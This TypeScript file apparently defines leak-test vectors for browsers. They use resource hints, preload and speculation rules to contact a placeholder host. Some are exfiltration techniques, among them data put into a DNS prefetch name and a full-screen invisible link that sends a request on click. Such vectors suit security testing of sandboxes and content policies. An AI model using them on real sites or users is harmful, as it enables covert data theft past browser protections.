import { family, inHtml, inScript } from './vector.ts';

const link = (rel: string, more = ''): string => `<link rel="${rel}" ${more} href="%H%/x.js">`;

/** Hints that make a browser connect, look up or load ahead. A name that is looked up is a leak. */
export const hints = family(
  'hints',
  { wait: 1_000, batch: true },
  {
    ...inHtml({
      'dns-prefetch': link('dns-prefetch'),
      preconnect: link('preconnect'),
      'preconnect crossorigin': link('preconnect', 'crossorigin'),
      prefetch: link('prefetch'),
      'prefetch as a document': link('prefetch', 'as="document"'),
      prerender: `${link('prerender')}${link('prefetch')}`,
      'preload script': link('preload', 'as="script"'),
      'preload image with imagesrcset':
        '<link rel="preload" as="image" imagesrcset="%H%/x.png 1x" imagesizes="1px">',
      'preload style': link('preload', 'as="style"'),
      'preload font': link('preload', 'as="font" crossorigin'),
      'preload fetch': link('preload', 'as="fetch" crossorigin'),
      'preload track and media': `${link('preload', 'as="video"')}${link('preload', 'as="track"')}<img src="%H%/y">`,
      modulepreload: link('modulepreload'),
      'modulepreload as json': link('modulepreload', 'as="json"'),
      subresource: `${link('subresource')}${link('preload', 'as="script"')}`,
      'x-dns-prefetch-control on':
        '<meta http-equiv="x-dns-prefetch-control" content="on"><a href="%H%/x">a</a><link rel="dns-prefetch" href="//%N%">',
      'expect and compression-dictionary': `${link('expect', 'blocking="render"')}${link('compression-dictionary')}<img src="%H%/y.png">`,
      'privacy-policy, next and canonical': `${link('next')}${link('canonical')}${link('pingback')}<img src="%H%/y.png">`,
      'amphtml, search and monetization': `${link('search', 'type="application/opensearchdescription+xml"')}${link('monetization')}${link('import')}<img src="%H%/y.png">`,
      'meta refresh Link header': `<meta http-equiv="Link" content="<%H%/x>; rel=preload; as=script"><img src="%H%/y.png">`,
      'speculation rules prefetch':
        '<script type="speculationrules">{"prefetch":[{"urls":["%H%/x.html"],"eagerness":"immediate"}]}</script><link rel="prefetch" href="%H%/y">',
      'speculation rules prerender':
        '<script type="speculationrules">{"prerender":[{"urls":["%H%/x.html"],"eagerness":"immediate"}]}</script><link rel="prefetch" href="%H%/y">',
      'speculation rules on documents':
        '<a href="%H%/x.html">a</a><script type="speculationrules">{"prefetch":[{"source":"document","where":{"href_matches":"/*","relative_to":"document"},"eagerness":"immediate"},{"urls":["%V%?x"],"eagerness":"immediate"}]}</script><link rel="prefetch" href="%H%/y">',
    }),
    ...inScript({
      'preconnect added later': `const l = document.createElement('link'); l.rel = 'preconnect'; l.href = '%H%'; document.head.append(l)`,
      'dns-prefetch of data in the name': `const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = '//secret.' + '%N%'; document.head.append(l)`,
      'preload added later': `const l = document.createElement('link'); l.rel = 'preload'; l.as = 'image'; l.href = '%H%/x.png'; document.head.append(l)`,
    }),
    'a link that is pointed at': {
      html: '<a style="position:fixed;inset:0" href="%H%/x">a</a>',
      javascript: `document.querySelector('a').addEventListener('click', (e) => { e.preventDefault(); new Image().src = '%H%/y' })`,
      press: 'left',
    },
  },
);
